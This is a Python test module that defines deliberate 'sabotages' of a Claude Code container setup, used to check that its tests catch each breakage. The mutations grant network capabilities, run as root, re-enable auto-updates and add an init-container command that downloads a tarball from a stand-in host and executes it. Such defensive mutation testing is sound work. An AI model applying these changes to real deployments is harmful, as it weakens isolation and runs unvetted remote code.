"""Sabotages of what the box is given where it is started: by editors, by other keys, by a shell."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from pytest_claims.sabotages import replace_in, subject_sabotage

FEATURE = "ghcr.io/anthropics/devcontainer-features/claude-code:1.0"


def _for_development(directory: Path, **told: Any) -> None:
    """Have an editor make a container of the box."""
    place = directory / ".devcontainer"
    place.mkdir()
    text = json.dumps({"build": {"dockerfile": "../image/Dockerfile", "context": "../image"}, **told})
    (place / "devcontainer.json").write_text(f"{text}\n")


@subject_sabotage("claude-code-version-pinned", "a feature brings the CLI again, for development")
def cli_of_a_feature(directory: Path) -> None:
    _for_development(directory, features={FEATURE: {}})


@subject_sabotage("iso-held-without-a-cluster", "the container for development has a capability")
def capability_for_development(directory: Path) -> None:
    _for_development(directory, runArgs=["--cap-add=NET_ADMIN", "--cap-add=NET_RAW"])


@subject_sabotage("runtime-uid-nonroot", "an editor works as root in the container for development")
def root_for_development(directory: Path) -> None:
    _for_development(directory, remoteUser="root")


@subject_sabotage("image-self-sufficient-offline", "the container for development installs when it is made")
def installed_for_development(directory: Path) -> None:
    _for_development(directory, postCreateCommand=["npm", "install", "-g", "typescript"])


CLONES = "[/usr/bin/tini, --, python3, -I, /usr/local/lib/box/config_clone.py]"
COMPONENT = "manifests/components/config-clone/kustomization.yaml"


@subject_sabotage("image-self-sufficient-offline", "a component's init container unpacks a program")
def unpacked_by_a_component(directory: Path) -> None:
    fetch = "curl -fsSL https://example.invalid/x.tar.gz | tar xz -C /tools && exec python3 -I /x.py"
    replace_in(
        directory / COMPONENT, f"command: {CLONES}", f'command: [/usr/bin/tini, --, sh, -c, "{fetch}"]'
    )


@subject_sabotage("claude-autoupdate-off", "the agent has the variable by another key, which says no")
def updater_on_by_another_key(directory: Path) -> None:
    level = "  BOX_LOG_LEVEL: info\n"
    replace_in(directory / "manifests/base/configmap.yaml", level, f'{level}  UPDATES_OFF: "0"\n')
    taken = "              valueFrom: {configMapKeyRef: {name: claude-config, key: UPDATES_OFF}}\n"
    proxy = "            - name: no_proxy\n"
    path = directory / "manifests/base/statefulset.yaml"
    replace_in(path, proxy, f"            - name: DISABLE_AUTOUPDATER\n{taken}{proxy}")


@subject_sabotage("claude-autoupdate-off", "the Compose file takes the variable of a file")
def updater_on_by_a_file_of_variables(directory: Path) -> None:
    (directory / "updates.env").write_text("# the newest\nDISABLE_AUTOUPDATER=0\n")
    user = '    user: "1000:1000"\n'
    replace_in(directory / "compose.yaml", user, f"{user}    env_file: [updates.env]\n")


@subject_sabotage("claude-autoupdate-off", "a shell of the pod takes the variable away before the box starts")
def updater_on_by_a_shell(directory: Path) -> None:
    starts = "unset DISABLE_AUTOUPDATER; exec /usr/local/bin/entrypoint"
    pull = "          imagePullPolicy: IfNotPresent\n          envFrom:\n"
    command = f'          command: [/usr/bin/tini, --, sh, -c, "{starts}"]\n'
    path = directory / "manifests/base/statefulset.yaml"
    replace_in(path, pull, pull.replace("          envFrom", f"{command}          envFrom"))
